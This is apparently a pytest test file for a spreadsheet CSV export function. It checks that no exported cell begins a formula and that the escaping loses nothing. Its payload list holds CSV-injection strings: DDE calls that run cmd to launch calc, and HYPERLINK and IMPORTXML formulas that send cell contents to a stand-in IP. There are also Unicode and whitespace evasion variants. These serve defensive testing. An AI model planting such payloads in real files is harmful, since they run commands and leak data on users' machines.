"""CSV opened by spreadsheets of every habit: nothing in it is run, and nothing is lost."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.exports.spreadsheet import _line

DOCS = Path(__file__).parents[3] / "docs" / "exports.md"
# What starts a formula, in the widths that programs for East Asian languages take for the same,
# also after what they drop. An apostrophe makes it text.
RUN = re.compile(r"[\s\"\x01\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]")
NUMBER = re.compile(r"-?[0-9.]+")
PAYLOADS = [
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.1/?"&A1,"press")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1\uff0b1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe66SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\x01=1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://203.0.113.1/",A1),"//a")',
    "%0A=1+1\n=1+1",
]
AROUND = ["{}", "Prices rise;{}", "Prices rise,{}", "a\t{}", "a|{}", "a\n{}", "a\r\n{}", "a;;{};b"]
AROUND += ['a;"{}"', '";{};"', "a ; {}", "a\x0b{}", "a\u2028{}", "{};{}", "a\x85{}"]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("around", AROUND)
def test_no_cell_begins_a_formula_whatever_separates_cells(around: str, separator: str) -> None:
    for payload in PAYLOADS:
        text = around.replace("{}", payload)
        line = _line(["sim_1", 0, text, text, -0.5, text]).decode()
        cells = [cell for row in _opened(line, separator) for cell in row]
        run = [cell for cell in cells if RUN.match(cell) and not NUMBER.fullmatch(cell)]
        assert not run, (payload, line)


def test_cells_have_what_was_put_in_and_an_apostrophe_at_most() -> None:
    (row,) = csv.reader(io.StringIO(_line(["=1", 'say "hi"', 1, -0.25, None, True]).decode()))
    assert row == ["'=1", 'say "hi"', "1", "-0.25", "", "True"]


def test_text_is_quoted_and_numbers_are_plain() -> None:
    assert _line(["S1", 12, -0.5, None, False]) == b'"S1",12,-0.5,,False\r\n'


@pytest.mark.parametrize(
    "text", ["A $5 rise, and - so they say - no more.", "a-b; c=d", "5 % + tax", "2026-03-01", ""]
)
def test_usual_text_stays_as_it_is(text: str) -> None:
    (row,) = csv.reader(io.StringIO(_line([text]).decode()))
    assert row == [text]


@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@'\",;|\t\r\n \uff1dx"), st.characters())))
def test_the_documented_way_back_loses_nothing(text: str) -> None:
    cleaned = text.encode("utf-8", "replace").decode()
    (row,) = csv.reader(io.StringIO(_line([cleaned, 1]).decode(), newline=""))
    assert _as_it_was(row[0]) == cleaned


def _documented() -> Callable[[str], str]:
    code = re.search(r"```python\n(.*?)```", DOCS.read_text("utf-8"), re.DOTALL)
    assert code
    names: dict[str, Callable[[str], str]] = {}
    exec(code[1], names)  # noqa: S102 - it is our own page
    return names["as_it_was"]


_as_it_was = _documented()


def _opened(line: str, separator: str) -> list[list[str]]:
    """The cells a program finds that has this separator, with quotes heeded and without."""
    text = io.StringIO(line, newline="")
    heeding = list(csv.reader(text, delimiter=separator))
    plain = [row.split(separator) for row in line.splitlines()]
    return heeding + [[cell.strip('"') for cell in row] for row in plain]
